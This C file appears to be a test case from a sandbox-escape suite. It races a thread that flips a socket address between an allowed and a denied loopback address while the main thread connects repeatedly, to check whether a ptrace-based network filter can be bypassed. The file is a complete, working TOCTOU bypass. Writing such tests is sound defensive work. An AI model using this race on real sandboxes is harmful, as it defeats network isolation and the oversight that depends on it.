/*
 * Vectors 3 and 12: TOCTOU on the sockaddr. A thread flips the address between
 * 127.0.0.1 (allowed) and 127.0.0.2 (denied) while the main thread connects;
 * success = connected to 127.0.0.2 and read the listener's banner.
 * expect: ptrace_network
 * expect-match: 127.0.0.2
 */
#include "esc.h"
#include <pthread.h>
#include <stdatomic.h>

static struct sockaddr_in target;
static atomic_bool stop;

static void *flipper(void *arg)
{
	volatile uint32_t *a = (volatile uint32_t *)&target.sin_addr.s_addr;
	(void)arg;
	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
		*a = htonl(0x7f000001);
		*a = htonl(0x7f000002);
	}
	return NULL;
}

int main(void)
{
	target = esc_deny_sin();
	target.sin_addr.s_addr = htonl(0x7f000001);
	pthread_t t;
	pthread_create(&t, NULL, flipper, NULL);
	double end = esc_now() + esc_race_seconds();
	long tries = 0;
	while (esc_now() < end) {
		tries++;
		int s = socket(AF_INET, SOCK_STREAM, 0);
		if (connect(s, (struct sockaddr *)&target, sizeof(target)) == 0) {
			struct sockaddr_in peer;
			socklen_t len = sizeof(peer);
			getpeername(s, (struct sockaddr *)&peer, &len);
			if (peer.sin_addr.s_addr == htonl(0x7f000002) && esc_recv_contains(s, ESC_BANNER, 2000)) {
				atomic_store(&stop, true);
				esc_success("connected to the denied address after %ld tries", tries);
			}
		}
		close(s);
	}
	atomic_store(&stop, true);
	pthread_join(t, NULL);
	esc_blocked("never reached the denied address in %ld connects", tries);
}
